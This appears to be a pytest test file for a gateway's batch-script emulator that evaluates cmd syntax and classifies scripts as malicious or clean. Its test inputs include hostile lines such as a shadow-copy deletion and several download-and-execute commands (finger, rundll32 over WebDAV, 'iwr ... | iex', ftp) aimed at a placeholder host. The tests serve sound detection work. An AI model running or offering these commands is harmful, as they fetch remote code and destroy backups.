"""The environment `cmd`: what is worked out and what is not."""

from __future__ import annotations

import pytest

from gateway.emulation import Budget, Detonation, StopKind
from gateway.emulation.scripts import ScriptEnvironment
from gateway.model import Verdict
from tests.unit.emulation.judging import BUDGET, expect_stopped, ran, verdict_of


def _run(
    cmd: ScriptEnvironment, text: str, budget: Budget = BUDGET, arguments: tuple[str, ...] = ()
) -> Detonation:
    data = text.replace("\n", "\r\n").encode()
    return ran(cmd, "s.bat", "batch", data, budget, arguments)


def _printed(result: Detonation) -> list[str]:
    return [line.strip() for line in result.output.decode().split("\r\n") if line.strip()]


@pytest.mark.parametrize(
    ("code", "printed"),
    [
        ("set a=hello\necho %a:~1,3% %a:~-2% %a:l=L% %a:*e=x%", ["ell lo heLLo xllo"]),
        ("e^c^h^o a^&b", ["a&b"]),
        ("set a=1& set b=2\necho %a%%b%%none%", ["12"]),
        ("set /a x=(1+2)*3,y=x%%4,z=-7/2\necho %x% %y% %z%", ["9 1 -3"]),
        ("set /a x=0x10+010,x^<^<=1,n=!0,m=~5\necho %x% %n% %m%", ["48 1 -6"]),
        ("set a=1\n(set a=2\necho %a%)", ["1"]),
        ("setlocal enabledelayedexpansion\nset a=1\n(set a=2\necho !a!)", ["2"]),
        ("for /l %%i in (3,-1,1) do echo %%i", ["3", "2", "1"]),
        ('for %%f in (a "b c") do echo %%~nf', ["a", "b c"]),
        ('for /f "tokens=1,3* delims=:" %%a in ("p:q:r:s:t") do echo %%a %%b %%c', ["p r s:t"]),
        ("for /f \"skip=1 delims=\" %%a in ('echo x^&echo y') do echo [%%a]", ["[y]"]),
        ("for /f usebackq %%a in (`echo k v`) do echo %%a", ["k"]),
        ('call :s "a b" c\nexit /b\n:s\necho %~1 %2', ["a b c"]),
        ("set a=b\nset b=c\ncall echo %%%a%%%", ["c"]),
        ("if 10 gtr 9 (echo yes) else (echo no)", ["yes"]),
        ('if /i not "A"=="a" (echo no) else echo yes', ["yes"]),
        ("if exist C:\\Windows\\explorer.exe echo there", ["there"]),
        ("goto b\n:a\necho a\ngoto :eof\n:b\necho b\ngoto a", ["b", "a"]),
        ("echo one> t.txt\necho two>> t.txt\ntype t.txt", ["one", "two"]),
        ("(echo one\necho two) > t.txt\nfindstr w t.txt", []),
        ("for /f %%a in ('findstr two ^< \"%~f0\"') do echo got\nrem two", ["got", "got"]),
        (
            '<nul set /p =no line end> t.txt\nfor /f "delims=" %%a in (t.txt) do echo %%a',
            ["no line end"],
        ),
        ("set /p a=< nul\necho [%a%]", ["[]"]),
        ("echo set a=1 > t.bat\ncall t.bat\necho %a%", ["1"]),
        ('cmd /v:on /c "set a=1&& echo !a!"', ["1"]),
        ("%comspec:~-7,3% /c echo c", ["c"]),
        ("for /f \"tokens=2 delims==\" %%a in ('assoc .cmd') do echo %%a", ["cmdfile"]),
        ("echo %~n0%~x0 %~dp0", ["s.bat C:\\Users\\anna\\Downloads\\"]),
        ("powershell -c \"'a' + 'b'\" > t.txt\ntype t.txt", ["ab"]),
        ("for /f %%a in ('powershell -c \"1+1\"') do echo %%a", ["2"]),
        ("set x=5\nset x=\nif defined x (echo set) else echo unset", ["unset"]),
        ("echo a ^\nb", ["a b"]),
        ('ver | find "Windows" >nul && echo ok || echo bad', ["ok"]),
    ],
)
def test_lines_are_worked_out(cmd: ScriptEnvironment, code: str, printed: list[str]) -> None:
    result = _run(cmd, f"@echo off\n{code}\n")
    assert _printed(result) == printed, result
    assert result.stopped_by is None


def test_both_ways_are_told_where_only_the_machine_could_tell(cmd: ScriptEnvironment) -> None:
    result = _run(
        cmd,
        "@echo off\nsome.exe\nif errorlevel 1 goto bad\necho good\nexit /b\n:bad\necho bad\n"
        'if "%username%"=="x" (echo me) else (echo other)\n',
    )
    assert _printed(result) == ["good", "bad", "me", "other"]
    assert result.stopped_by is None


def test_arguments_are_given_to_the_file(cmd: ScriptEnvironment) -> None:
    result = _run(cmd, "@echo %~1-%2\n@shift\n@echo %1", arguments=("a b", "c"))
    assert _printed(result) == ["a b-c", "c"]


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        ("for /f %%a in ('tool.exe') do %%a", StopKind.INCOMPLETE),
        ("if x", StopKind.INCOMPLETE),
        ("(echo a", StopKind.INCOMPLETE),
        ("", StopKind.INCOMPLETE),
        (
            ":a\nset /a n+=1 >nul\nfor /l %%i in (1,1,90000) do set /a m+=1\ngoto a",
            StopKind.TIMED_OUT,
        ),
    ],
)
def test_what_was_not_worked_out_is_never_clean(
    cmd: ScriptEnvironment, code: str, kind: StopKind
) -> None:
    result = _run(cmd, code, Budget(seconds=1.0))
    expect_stopped(result, kind)


def test_what_is_written_comes_back_and_encoded_powershell_too(cmd: ScriptEnvironment) -> None:
    result = _run(cmd, "echo MsgBox x> %TEMP%\\a.vbs\npowershell -enc ZQBjAGgAbwAgAGgAaQA=")
    children = {child.path.rsplit("\\", 1)[-1]: child.data for child in result.children}
    assert children == {"a.vbs": b"MsgBox x\r\n", "command-1.ps1": b"echo hi"}


def test_a_mark_of_another_encoding_hides_nothing(cmd: ScriptEnvironment) -> None:
    data = b"\xff\xfe&cls\r\nvssadmin delete shadows /all\r\n"
    result = ran(cmd, "s.bat", "batch", data)
    assert verdict_of(result) is Verdict.MALICIOUS


def test_a_file_named_as_a_program_does_not_start_itself(cmd: ScriptEnvironment) -> None:
    result = ran(cmd, "ipconfig.bat", "batch", b"ipconfig /all")
    assert verdict_of(result) is Verdict.CLEAN
    assert result.behaviours[0].target == "ipconfig"


def test_other_variables_are_another_run_of_itself(cmd: ScriptEnvironment) -> None:
    text = '@if "%again%"=="" (set again=1& cmd /c "%~f0" & exit /b)\n@echo inside'
    assert _printed(_run(cmd, text)) == ["inside"]


@pytest.mark.parametrize(
    "code",
    [
        "for /f \"tokens=1 delims=|\" %%a in ('finger run@a.example') do call %%a",
        "rundll32.exe \\\\a.example@8080\\files\\a.dll,entry",
        "copy C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe %TEMP%\\x.exe\n"
        '%TEMP%\\x.exe -c "iwr http://a.example/ | iex"',
        "(echo open a.example\necho get a.exe) > %TEMP%\\f.txt\nftp -s:%TEMP%\\f.txt",
    ],
)
def test_ways_to_bring_code_in(cmd: ScriptEnvironment, code: str) -> None:
    assert verdict_of(_run(cmd, code)) is Verdict.MALICIOUS


@pytest.mark.parametrize(
    "code",
    [
        "net use S: \\\\corp.example@SSL\\DavWWWRoot\\shared",
        "echo put C:\\Reports\\a.csv> %TEMP%\\f.txt\nftp -n -s:%TEMP%\\f.txt",
        'powershell -NoProfile -Command "Get-Date"\npowershell -Command "Get-Service"\n'
        'powershell -Command "Get-ChildItem C:\\Logs"',
    ],
)
def test_work_of_administrators_is_clean(cmd: ScriptEnvironment, code: str) -> None:
    result = _run(cmd, code)
    assert (verdict_of(result), result.stopped_by) == (Verdict.CLEAN, None)


@pytest.mark.parametrize(
    ("start", "name"),
    [
        ('mshta.exe "%~f0"', "itself.hta"),
        ('cscript //nologo //E:JScript "%~f0"', "itself.js"),
        ('cscript //nologo "%~f0?.wsf" //job:a', "itself.wsf"),
    ],
)
def test_a_file_of_two_types_goes_back_as_the_other(
    cmd: ScriptEnvironment, start: str, name: str
) -> None:
    """It is not the same byte for byte: such a child would not be judged again."""
    text = f"<!-- :\n@{start}\n@exit /b\n-->\n<html></html>"
    result, text = _run(cmd, text), text.replace("\n", "\r\n")
    assert [child.path for child in result.children] == [name]
    assert result.children[0].data.rstrip() == text.encode()
    assert result.children[0].data != text.encode()


def test_where_is_not_sure_to_find(cmd: ScriptEnvironment) -> None:
    text = (
        "@for /f %%w in ('where cmd') do @echo %%w\n"
        "@where x>nul || echo no\n@where x>nul && echo yes"
    )
    assert _printed(_run(cmd, text)) == [r"C:\Windows\System32\cmd.exe", "no", "yes"]
